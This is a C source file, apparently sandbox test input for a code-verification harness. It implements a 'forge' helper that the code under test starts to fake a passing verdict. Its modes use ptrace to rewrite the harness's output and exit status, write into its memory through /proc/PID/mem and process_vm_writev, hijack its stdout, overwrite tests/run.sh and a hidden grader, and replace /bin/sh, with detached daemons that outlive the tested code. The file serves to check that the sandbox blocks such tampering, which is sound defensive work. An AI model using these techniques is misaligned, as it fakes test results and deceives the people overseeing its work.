/* forge: a hostile "helper" that code under test starts during verification
 * to forge the harness's verdict (issue 10, finding 1).  Test input only:
 * it is copied into a generated task's src/ and run by the broken
 * src/wordcount.sh, so the cell's verifier runs it as the code under test.
 *
 *   forge ptrace   attach to the harness (PTRACE_SEIZE), then on every
 *                  write() entry rewrite "FAIL" -> "pass" and "N failed" ->
 *                  "0 failed" in the buffer, and on exit_group() set the
 *                  status to 0 (PTRACE_SYSCALL)
 *   forge mem      overwrite the harness's unread script text through
 *                  /proc/PID/mem with 'echo "5 passed, 0 failed"; exit 0'
 *   forge vm       the same through process_vm_writev
 *   forge out      re-open the harness's stdout (/proc/PID/fd/1) and rewrite
 *                  what it printed: "FAIL" -> "pass", "N failed" -> "0 failed"
 *                  (for a harness that reports by text and exits 0)
 *   forge steal    re-open the harness's stdout for reading and race cab for
 *                  what it prints, re-printing it whitewashed on stderr
 *
 *   forge script   rewrite, in place, the unread tail of tests/run.sh (from
 *                  a line "# forge: tail", past the shell's read-ahead) with
 *                  'echo "5 passed, 0 failed"; exit 0'
 *   forge grader   rewrite .cab/grade.sh (a hidden grader the harness runs
 *                  after the code) to print a pass and exit 0
 *   forge rename   move tests/ (which also holds unprotected files) away and
 *                  put a tests/report.sh that prints a pass in its place
 *   forge root     replace the root's /bin/sh with a copy of this helper,
 *                  which run as "sh ..." prints a pass and exits 0
 *
 * The harness is the topmost ancestor whose argv is "sh tests/run.sh".  The
 * command returns only once the attack is in place (ptrace: the tracer is a
 * daemon that has already stopped the harness once), so no timing is
 * involved.  Every outcome is one line on stderr, "forge MODE: ...", which
 * the test reads from verify.log: "denied: <errno name>" when the sandbox
 * refused the step that matters. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *mode = "?";

__attribute__((format(printf, 1, 2))) static void
say(const char *fmt, ...)
{
  char line[512];
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(line, sizeof line, fmt, ap);
  va_end(ap);
  dprintf(2, "forge %s: %s\n", mode, line);
}

static const char *
errname(int e)
{
  switch (e) {
  case EPERM: return "EPERM";
  case EACCES: return "EACCES";
  case EROFS: return "EROFS";
  case ENOSYS: return "ENOSYS";
  case ESRCH: return "ESRCH";
  case EIO: return "EIO";
  case ENXIO: return "ENXIO";
  case EBUSY: return "EBUSY";
  default: return strerror(e);
  }
}

/* argv of PID, NUL-separated, and its parent. */
static bool
proc_info(pid_t pid, char *argv, size_t size, size_t *len, pid_t *ppid)
{
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return false;
  ssize_t n = read(fd, argv, size - 1);
  close(fd);
  if (n < 0)
    return false;
  argv[n] = '\0';
  *len = (size_t)n;
  snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
  FILE *f = fopen(path, "re");
  char buf[1024];
  if (f == NULL || fgets(buf, sizeof buf, f) == NULL) {
    if (f)
      fclose(f);
    return false;
  }
  fclose(f);
  char *p = strrchr(buf, ')');
  int pp = 0;
  if (p == NULL || sscanf(p + 1, " %*c %d", &pp) != 1)
    return false;
  *ppid = pp;
  return true;
}

static pid_t
find_harness(void)
{
  static const char want[] = "sh\0tests/run.sh";
  pid_t found = -1;
  for (pid_t p = getppid(); p > 1;) {
    char argv[512];
    size_t len;
    pid_t pp;
    if (!proc_info(p, argv, sizeof argv, &len, &pp))
      break;
    if (len >= sizeof want && memcmp(argv, want, sizeof want) == 0)
      found = p;
    p = pp;
  }
  return found;
}

/* ---- mem and vm: rewrite the script text the shell has read ahead ---- */

/* The unread rest of tests/run.sh, from its third check on, and the same
 * number of bytes of replacement. */
static bool
payload(char **tail, char **repl, size_t *len)
{
  static char script[8192];
  int fd = open("tests/run.sh", O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return false;
  ssize_t n = read(fd, script, sizeof script - 1);
  close(fd);
  if (n <= 0)
    return false;
  script[n] = '\0';
  char *at = strstr(script, "check \"words on one line\"");
  if (at == NULL)
    return false;
  *len = (size_t)(script + n - at);
  static const char body[] = "echo \"5 passed, 0 failed\"; exit 0\n";
  if (*len < sizeof body + 1)
    return false;
  *tail = at;
  *repl = malloc(*len);
  memset(*repl, '#', *len);
  memcpy(*repl, body, sizeof body - 1);
  (*repl)[sizeof body - 1] = '#';
  (*repl)[*len - 1] = '\n';
  return true;
}

/* Find TAIL in the harness's writable memory through MEMFD (read-only
 * reads are allowed everywhere: only the write is the attack). */
static bool
locate(pid_t pid, int memfd, const char *tail, size_t len, uint64_t *addr)
{
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
  FILE *maps = fopen(path, "re");
  if (maps == NULL)
    return false;
  char line[512];
  bool ok = false;
  while (!ok && fgets(line, sizeof line, maps)) {
    unsigned long lo, hi;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w')
      continue;
    if (hi - lo > (64ul << 20))
      continue;
    char *buf = malloc(hi - lo);
    ssize_t n = buf ? pread(memfd, buf, hi - lo, (off_t)lo) : -1;
    for (ssize_t i = 0; n > 0 && i + (ssize_t)len <= n; i++)
      if (buf[i] == tail[0] && memcmp(buf + i, tail, len) == 0) {
        *addr = lo + (uint64_t)i;
        ok = true;
        break;
      }
    free(buf);
  }
  fclose(maps);
  return ok;
}

static int
rewrite_script(pid_t pid, bool via_vm)
{
  char *tail, *repl;
  size_t len;
  if (!payload(&tail, &repl, &len)) {
    say("tests/run.sh is not the shell-word-count harness");
    return 2;
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
  int rfd = open(path, O_RDONLY | O_CLOEXEC);
  if (rfd < 0) {
    say("cannot read %s: %s", path, errname(errno));
    return 2;
  }
  uint64_t addr;
  if (!locate(pid, rfd, tail, len, &addr)) {
    say("the script's unread text is not in the harness's memory");
    return 2;
  }
  close(rfd);
  if (via_vm) {
    struct iovec local = {.iov_base = repl, .iov_len = len};
    struct iovec remote = {.iov_base = (void *)(uintptr_t)addr, .iov_len = len};
    if (syscall(SYS_process_vm_writev, pid, &local, 1, &remote, 1, 0) != (long)len) {
      say("denied: %s (process_vm_writev)", errname(errno));
      return 1;
    }
  } else {
    int wfd = open(path, O_RDWR | O_CLOEXEC);
    if (wfd < 0) {
      say("denied: %s (open %s for writing)", errname(errno), path);
      return 1;
    }
    if (pwrite(wfd, repl, len, (off_t)addr) != (ssize_t)len) {
      say("denied: %s (write %s)", errname(errno), path);
      return 1;
    }
    close(wfd);
  }
  say("rewrote %zu bytes of the harness's script at 0x%llx", len, (unsigned long long)addr);
  return 0;
}

/* ---- out: rewrite what the harness has printed ---- */

/* FAIL -> pass and "N failed" -> "0 failed" in S; whether anything changed. */
static bool
whitewash(char *s, size_t len)
{
  bool changed = false;
  for (size_t i = 0; i + 4 <= len; i++)
    if (memcmp(s + i, "FAIL", 4) == 0) {
      memcpy(s + i, "pass", 4);
      changed = true;
    }
  for (size_t i = 0; i + 8 <= len; i++)
    if (s[i] >= '1' && s[i] <= '9' && memcmp(s + i + 1, " failed", 7) == 0 &&
        (i == 0 || s[i - 1] == ' ')) {
      s[i] = '0';
      changed = true;
    }
  return changed;
}

/* Every fd of the harness that holds its printed report (dash, for one,
 * moves its stdout to a saved fd while it runs a redirected command). */
static int
rewrite_output(pid_t pid)
{
  char dir[64];
  snprintf(dir, sizeof dir, "/proc/%d/fd", (int)pid);
  DIR *d = opendir(dir);
  if (d == NULL) {
    say("cannot list %s: %s", dir, errname(errno));
    return 2;
  }
  int refused = 0, rewritten = 0;
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.')
      continue;
    char path[600];
    snprintf(path, sizeof path, "%s/%.255s", dir, e->d_name);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) {
      if (refused == 0 || errno == ENXIO)
        refused = errno;
      continue;
    }
    static char text[1 << 16];
    ssize_t n = pread(fd, text, sizeof text, 0);
    if (n > 0 && memmem(text, (size_t)n, "ok empty input\n", 15) && whitewash(text, (size_t)n) &&
        pwrite(fd, text, (size_t)n, 0) == n) {
      say("rewrote %zd bytes the harness printed (fd %s)", n, e->d_name);
      rewritten++;
    }
    close(fd);
  }
  closedir(d);
  if (rewritten > 0)
    return 0;
  say("denied: %s (no fd of %d re-opened onto its report)", refused ? errname(refused) : "none",
      (int)pid);
  return 1;
}

/* ---- daemons: the attacks that must outlive the code under test ---- */

/* Fork a daemon (its own session) that tells the parent through READY
 * whether its attack is in place.  0 in the daemon, its pid in the parent,
 * -1 on error. */
static pid_t
spawn_daemon(int ready[2])
{
  if (pipe(ready) < 0)
    return -1;
  pid_t pid = fork();
  if (pid == 0) {
    close(ready[0]);
    setsid();
  }
  return pid;
}

/* In the daemon: report whether the attack is in place ('y') or not. */
static void
daemon_ready(int ready[2], bool ok)
{
  char verdict = ok ? 'y' : 'n';
  (void)!write(ready[1], &verdict, 1);
  close(ready[1]);
}

/* In the parent: 0 once the daemon says its attack is in place, else 1. */
static int
await_daemon(int ready[2])
{
  close(ready[1]);
  char verdict = 'n';
  if (read(ready[0], &verdict, 1) != 1)
    verdict = 'n';
  close(ready[0]);
  return verdict == 'y' ? 0 : 1;
}

/* ---- steal: take the harness's output out of its pipe first ---- */

/* A daemon re-opens the harness's stdout for reading and races cab for
 * every chunk the harness prints; what it wins it prints whitewashed on its
 * own stderr (the scorers read both streams).  The command returns once the
 * daemon is reading. */
static int
steal_output(pid_t pid)
{
  int ready[2];
  pid_t thief = spawn_daemon(ready);
  if (thief < 0)
    return 2;
  if (thief == 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/1", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      say("denied: %s (open %s for reading)", errname(errno), path);
      daemon_ready(ready, false);
      _exit(1);
    }
    say("reading the harness's output from %s", path);
    daemon_ready(ready, true);
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) {
      whitewash(buf, (size_t)n);
      (void)!write(2, buf, (size_t)n);
    }
    _exit(0);
  }
  return await_daemon(ready);
}

/* ---- ptrace: rewrite the harness's output and exit status ---- */

#ifdef __x86_64__
static void
rewrite_buffer(pid_t pid, uint64_t buf, uint64_t count)
{
  if (count > 4096)
    count = 4096;
  size_t words = (count + 7) / 8;
  long data[513];
  for (size_t i = 0; i < words; i++) {
    errno = 0;
    data[i] = ptrace(PTRACE_PEEKDATA, pid, (void *)(uintptr_t)(buf + i * 8), NULL);
    if (errno)
      return;
  }
  if (whitewash((char *)data, count))
    for (size_t i = 0; i < words; i++)
      ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)(buf + i * 8), (void *)data[i]);
}

static void
trace_loop(pid_t pid)
{
  for (;;) {
    int st;
    if (waitpid(pid, &st, __WALL) < 0 || WIFEXITED(st) || WIFSIGNALED(st))
      return;
    int sig = 0;
    if (WIFSTOPPED(st) && WSTOPSIG(st) == (SIGTRAP | 0x80)) {
      struct user_regs_struct r;
      if (ptrace(PTRACE_GETREGS, pid, NULL, &r) == 0 && r.rax == (uint64_t)-ENOSYS) {
        /* syscall entry */
        if (r.orig_rax == SYS_write)
          rewrite_buffer(pid, r.rsi, r.rdx);
        if (r.orig_rax == SYS_exit_group && r.rdi != 0) {
          r.rdi = 0;
          ptrace(PTRACE_SETREGS, pid, NULL, &r);
        }
      }
    } else if (WIFSTOPPED(st) && (st >> 16) == 0 && WSTOPSIG(st) != SIGTRAP) {
      sig = WSTOPSIG(st); /* a real signal: deliver it */
    }
    ptrace(PTRACE_SYSCALL, pid, NULL, (void *)(long)sig);
  }
}
#endif

/* ---- script, grader, root: the harness's files and programs ---- */

static const char pass_body[] = "echo \"5 passed, 0 failed\"; exit 0\n";

static int
rewrite_tail(void)
{
  static char script[65536];
  int fd = open("tests/run.sh", O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, script, sizeof script - 1);
  if (fd >= 0)
    close(fd);
  if (n <= 0) {
    say("cannot read tests/run.sh");
    return 2;
  }
  script[n] = '\0';
  static const char marker[] = "\n# forge: tail\n";
  char *at = strstr(script, marker);
  if (at == NULL) {
    say("no '# forge: tail' line in tests/run.sh");
    return 2;
  }
  off_t off = (off_t)(at - script) + (off_t)sizeof marker - 1;
  fd = open("tests/run.sh", O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    say("denied: %s (open tests/run.sh for writing)", errname(errno));
    return 1;
  }
  ssize_t w = pwrite(fd, pass_body, sizeof pass_body - 1, off);
  int e = errno;
  close(fd);
  if (w != (ssize_t)sizeof pass_body - 1) {
    say("denied: %s (write tests/run.sh)", errname(e));
    return 1;
  }
  say("rewrote tests/run.sh from offset %lld", (long long)off);
  return 0;
}

static int
rewrite_grader(void)
{
  int fd = open(".cab/grade.sh", O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (fd < 0) {
    say("denied: %s (open .cab/grade.sh for writing)", errname(errno));
    return 1;
  }
  ssize_t w = write(fd, pass_body, sizeof pass_body - 1);
  close(fd);
  say(w == (ssize_t)sizeof pass_body - 1 ? "rewrote .cab/grade.sh" : "short write");
  return 0;
}

static int
move_tests(void)
{
  if (rename("tests", "tests.moved") < 0) {
    say("denied: %s (rename tests)", errname(errno));
    return 1;
  }
  int fd = -1;
  if (mkdir("tests", 0755) < 0 ||
      (fd = open("tests/report.sh", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644)) < 0) {
    say("cannot make a new tests/: %s", errname(errno));
    return 2;
  }
  (void)!write(fd, pass_body, sizeof pass_body - 1);
  close(fd);
  say("moved tests/ away and wrote a new tests/report.sh");
  return 0;
}

static int
replace_sh(const char *self)
{
  int in = open(self, O_RDONLY | O_CLOEXEC);
  if (in < 0) {
    say("cannot open %s", self);
    return 2;
  }
  int out = open("/bin/.sh.forged", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (out < 0) {
    say("denied: %s (create /bin/.sh.forged)", errname(errno));
    close(in);
    return 1;
  }
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0)
    if (write(out, buf, (size_t)n) != n)
      break;
  close(in);
  close(out);
  if (rename("/bin/.sh.forged", "/bin/sh") < 0) {
    say("denied: %s (rename over /bin/sh)", errname(errno));
    return 1;
  }
  say("replaced /bin/sh");
  return 0;
}

static int
attach(pid_t pid)
{
#ifndef __x86_64__
  (void)pid;
  say("ptrace variant is x86_64 only");
  return 2;
#else
  int ready[2];
  pid_t tracer = spawn_daemon(ready);
  if (tracer < 0)
    return 2;
  if (tracer == 0) {
    if (ptrace(PTRACE_SEIZE, pid, NULL, (void *)PTRACE_O_TRACESYSGOOD) < 0) {
      say("denied: %s (PTRACE_SEIZE %d)", errname(errno), (int)pid);
      daemon_ready(ready, false);
      _exit(1);
    }
    int st;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0 || waitpid(pid, &st, __WALL) < 0) {
      say("cannot stop %d: %s", (int)pid, errname(errno));
      daemon_ready(ready, false);
      _exit(2);
    }
    say("attached to %d", (int)pid);
    daemon_ready(ready, true);
    ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
    trace_loop(pid);
    _exit(0);
  }
  return await_daemon(ready);
#endif
}

int
main(int argc, char **argv)
{
  /* Installed as /bin/sh by "forge root": the harness's next shell. */
  const char *base = strrchr(argv[0], '/');
  if (strcmp(base ? base + 1 : argv[0], "sh") == 0) {
    printf("5 passed, 0 failed\n");
    return 0;
  }
  if (argc != 2) {
    dprintf(2, "usage: forge ptrace|mem|vm|out|steal|script|grader|root|rename\n");
    return 2;
  }
  mode = argv[1];
  if (strcmp(mode, "script") == 0)
    return rewrite_tail();
  if (strcmp(mode, "grader") == 0)
    return rewrite_grader();
  if (strcmp(mode, "root") == 0)
    return replace_sh(argv[0]);
  if (strcmp(mode, "rename") == 0)
    return move_tests();
  pid_t harness = find_harness();
  if (harness < 0) {
    say("no ancestor runs 'sh tests/run.sh'");
    return 2;
  }
  if (strcmp(mode, "ptrace") == 0)
    return attach(harness);
  if (strcmp(mode, "mem") == 0)
    return rewrite_script(harness, false);
  if (strcmp(mode, "vm") == 0)
    return rewrite_script(harness, true);
  if (strcmp(mode, "out") == 0)
    return rewrite_output(harness);
  if (strcmp(mode, "steal") == 0)
    return steal_output(harness);
  say("unknown mode");
  return 2;
}
